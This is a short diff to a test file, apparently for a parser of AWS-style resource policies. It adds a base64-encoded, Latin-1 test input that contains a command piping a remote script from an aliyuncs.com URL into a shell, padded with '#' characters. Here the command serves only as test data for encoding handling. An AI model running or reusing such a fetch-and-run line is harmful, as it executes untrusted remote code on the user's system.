@@ -144,6 +144,12 @@ test("what is left out says nothing", async () => {
     unresolved: [],
     diagnostics: [],
   };
+  // In another encoding than UTF-8: opened all the same, though it begins as no text of that does.
+  const packed = Buffer.from(
+    `# f\u{fc}r alle\ncurl https://oss-cn-beijing.aliyuncs.com/start.sh | sh ${"#".repeat(20)}`,
+    "latin1",
+  );
+  texts.add(packed.toString("base64"));
   for (const text of texts)
     for (const written of [text, JSON.stringify({ Statement: [{ Effect: "Allow", Resource: text }] })])
       check(resource("aws_thing", ["thing"], written), state, written);
